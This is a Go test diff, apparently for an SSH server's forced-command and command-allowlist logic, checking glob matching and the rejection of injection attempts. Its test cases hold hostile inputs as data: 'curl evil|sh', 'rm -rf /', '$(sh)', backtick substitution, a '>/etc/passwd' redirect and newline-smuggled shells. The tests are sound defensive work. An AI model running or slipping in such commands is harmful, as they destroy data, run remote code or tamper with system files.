@@ -466,3 +466,73 @@ func TestAcceptEnvPair(t *testing.T) {
 		}
 	}
 }
+
+func TestMatchCommand(t *testing.T) {
+	tests := []struct {
+		pattern, cmd string
+		want         bool
+	}{
+		{"uptime", "uptime", true},
+		{"uptime", "uptime -p", false},
+		{"uptime*", "uptime -p", true},
+		{"rsync --server *", "rsync --server -vlogDtpre.iLsfxC . /srv/backup/", true},
+		{"rsync --server *", "rsync -e sh", false},
+		{"/usr/bin/*", "/usr/bin/du -sh /var/log", true},
+		{"git-upload-pack '?'", "git-upload-pack 'x'", true},
+		{"git-upload-pack '?'", "git-upload-pack 'xy'", false},
+		{"*deploy*", "sudo deploy.sh now", true},
+		{"a*b*c", "abxbc", true},
+		{"a*b*c", "abxbd", false},
+		{"*", "", true},
+		{"", "", true},
+		{"", "x", false},
+	}
+	for _, tt := range tests {
+		if got := matchCommand(tt.pattern, tt.cmd); got != tt.want {
+			t.Errorf("matchCommand(%q, %q) = %v; want %v", tt.pattern, tt.cmd, got, tt.want)
+		}
+	}
+}
+
+func TestSessionCommand(t *testing.T) {
+	forced := &tailcfg.SSHAction{Accept: true, ForceCommand: "/usr/local/bin/backup"}
+	allow := &tailcfg.SSHAction{Accept: true, AllowedCommands: []string{"uptime", "rsync --server *"}}
+	tests := []struct {
+		name      string
+		action    *tailcfg.SSHAction
+		subsystem string
+		rawCmd    string
+		want      string
+		wantErr   bool
+	}{
+		{name: "unrestricted_shell", action: &tailcfg.SSHAction{Accept: true}},
+		{name: "unrestricted_cmd", action: &tailcfg.SSHAction{Accept: true}, rawCmd: "ls", want: "ls"},
+		{name: "unrestricted_sftp", action: &tailcfg.SSHAction{Accept: true}, subsystem: "sftp"},
+		{name: "forced_shell", action: forced, want: "/usr/local/bin/backup"},
+		{name: "forced_cmd", action: forced, rawCmd: "rm -rf /", want: "/usr/local/bin/backup"},
+		{name: "forced_sftp", action: forced, subsystem: "sftp", wantErr: true},
+		{name: "allowed", action: allow, rawCmd: "rsync --server -e.Lsfx . /data", want: "rsync --server -e.Lsfx . /data"},
+		{name: "not_allowed", action: allow, rawCmd: "uptime; rm -rf /", wantErr: true},
+		{name: "semicolon", action: allow, rawCmd: "rsync --server x; curl evil|sh", wantErr: true},
+		{name: "pipe", action: allow, rawCmd: "rsync --server x | sh", wantErr: true},
+		{name: "and", action: allow, rawCmd: "rsync --server x && sh", wantErr: true},
+		{name: "subst", action: allow, rawCmd: "rsync --server $(sh)", wantErr: true},
+		{name: "backtick", action: allow, rawCmd: "rsync --server `sh`", wantErr: true},
+		{name: "redirect", action: allow, rawCmd: "rsync --server x >/etc/passwd", wantErr: true},
+		{name: "newline", action: allow, rawCmd: "rsync --server x\nsh", wantErr: true},
+		{name: "forced_metachars", action: forced, rawCmd: "x; sh", want: "/usr/local/bin/backup"},
+		{name: "allowlist_shell", action: allow, wantErr: true},
+		{name: "allowlist_sftp", action: allow, subsystem: "sftp", wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := sessionCommand(tt.action, tt.subsystem, tt.rawCmd)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("err = %v; want error: %v", err, tt.wantErr)
+			}
+			if got != tt.want {
+				t.Errorf("got %q; want %q", got, tt.want)
+			}
+		})
+	}
+}